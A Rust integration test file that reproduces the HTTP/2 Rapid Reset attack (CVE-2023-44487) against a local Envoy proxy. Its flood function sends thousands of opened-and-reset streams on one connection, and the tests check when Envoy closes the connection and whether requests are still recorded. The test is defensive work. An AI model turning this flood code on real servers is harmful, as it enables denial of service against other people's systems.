//! Rapid reset (CVE-2023-44487): streams that are opened and reset at once, so that they cost the client nothing.

use std::net::SocketAddr;

use http_trace_e2e::wait;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::hostile::frames::{END_HEADERS, END_STREAM, PREFACE, frame, get, kind};
use crate::hostile::siege::{Siege, stat};

const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// A stream that is reset at once.
fn reset(stream: u32, path: &str) -> Vec<u8> {
    let request = frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &get(path, &[]));
    [request, frame(kind::RST_STREAM, 0, stream, &CANCEL)].concat()
}

/// Opens so many streams on one connection; whether Envoy closed it.
async fn flood(to: SocketAddr, streams: u32, path: &str) -> bool {
    let mut stream = TcpStream::connect(to).await.expect("a connection");
    let mut bytes = [PREFACE, &frame(kind::SETTINGS, 0, 0, &[])].concat();
    bytes.extend((0..streams).flat_map(|at| reset(2 * at + 1, path)));
    bytes.extend(frame(kind::PING, 0, 0, b"the end."));
    let mut got = Vec::new();
    let closed = async {
        let (mut read, mut write) = stream.split();
        let send = async {
            let _ = write.write_all(&bytes).await;
            std::future::pending::<bool>().await
        };
        let receive = async {
            while !got.windows(8).any(|bytes| bytes == b"the end.") {
                match read.read_buf(&mut got).await {
                    Ok(0) | Err(_) => return true,
                    Ok(_) => {}
                }
            }
            false
        };
        tokio::select! { closed = send => closed, closed = receive => closed }
    };
    tokio::time::timeout(wait::DEADLINE, closed).await.expect("Envoy answers or closes")
}

/// Below the number at which Envoy closes the connection: every stream gives a record.
#[tokio::test]
async fn of_streams_that_envoy_bears() {
    let siege = Siege::start(|_| {}).await;
    for path in ["/shape", "/h2/shape", "/local"] {
        for _ in 0..10 {
            for to in [siege.stage.envoy.plain(), siege.stage.envoy.filtered()] {
                assert!(!flood(to, 200, path).await, "Envoy closes the connection");
            }
        }
    }
    let requests = stat(&siege.stage, "http.filtered.downstream_rq_total");
    assert_eq!(requests, 3 * 10 * 200);
    wait::until("every record", || (siege.stage.metric("exported")? == requests).then_some(())).await;
    siege.finish().await;
}

/// Beyond it: how many of them Envoy has begun by then is a matter of timing.
#[tokio::test]
async fn of_thousands_of_streams() {
    let siege = Siege::start(|_| {}).await;
    for _ in 0..5 {
        for to in [siege.stage.envoy.plain(), siege.stage.envoy.filtered()] {
            assert!(flood(to, 5000, "/shape").await, "Envoy does not close the connection");
        }
    }
    siege.finish().await;
}
